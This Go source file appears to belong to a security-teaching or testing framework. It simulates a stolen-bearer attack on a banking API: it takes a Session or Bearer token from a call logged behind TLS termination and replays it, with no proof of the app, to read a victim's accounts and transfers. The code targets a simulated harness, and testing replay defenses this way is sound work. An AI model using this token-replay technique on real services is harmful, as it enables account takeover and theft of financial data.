package attacker

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"

	"keyladder/internal/problem"
	"keyladder/mobileclient/attacker/attack"
	"keyladder/stages/catalog"
	"keyladder/stages/protect"
)

// stolenBearer takes what stands for the user out of a call that was logged behind the
// end of TLS, and no proof of the app, and uses it in a call of its own from there. The log
// holds no secret with which the app could be imitated. What apps are registered under is no
// secret, and no proof either: where that is all that they say of themselves, it goes along.
//
//keyladder:code attack-stolen-bearer
func stolenBearer(ctx context.Context, g *attack.Given) (attack.Result, error) {
	if err := g.Inside.VictimPays(ctx); err != nil {
		return attack.Result{}, fmt.Errorf("the victim does not pay: %w", err)
	}
	var bearer *attack.Captured
	for _, call := range g.Inside.Calls() {
		scheme, _, _ := strings.Cut(call.Header.Get("Authorization"), " ")
		if strings.EqualFold(scheme, "Session") || strings.EqualFold(scheme, "Bearer") {
			bearer = &call
		}
	}
	if bearer == nil {
		return attack.Result{}, errors.New("no call in the log carries anything that stands for its user")
	}
	g.Say("In the log: %s %s, with a credential that stands for the victim.", bearer.Method, bearer.Target)
	taken := []string{bearer.Header.Get("Authorization")}
	accounts, err := readWith(ctx, g, bearer, "/v1/accounts")
	if err != nil {
		result, err := attack.Stopped(err)
		result.Stolen = taken
		return result, err
	}
	from, _, err := g.Robbery(accounts)
	if err != nil {
		return attack.Result{}, err
	}
	transfers, err := readWith(ctx, g, bearer, "/v1/accounts/"+from.ID+"/transfers")
	if err != nil {
		return attack.Stopped(err)
	}
	return attack.Result{Claim: true, Data: string(accounts) + "\n" + string(transfers), Stolen: taken}, nil
}

// readWith reads from the API with the credential of a captured call alone. The machine
// behind the end of TLS says which client certificate it has seen.
func readWith(ctx context.Context, g *attack.Given, stolen *attack.Captured, path string) ([]byte, error) {
	header := http.Header{
		"User-Agent": {attack.PublicUserAgent}, "Accept": {protect.JSON},
		"Authorization": {stolen.Header.Get("Authorization")},
	}
	if g.Stage.Call.AppProof == catalog.AppKey {
		field := g.Stage.Call.AppProofField()
		header.Set(field, stolen.Header.Get(field))
	}
	status, body, err := g.SendFromInside(ctx, attack.Captured{
		Method: http.MethodGet, Target: "/" + g.Stage.Slug + path, Certificate: stolen.Certificate, Header: header,
	})
	if err != nil {
		return nil, err
	}
	g.Say("Sent GET %s with that credential and no proof of the app: %d.", path, status)
	return body, attack.Judge(status, problem.ContentType, body)
}
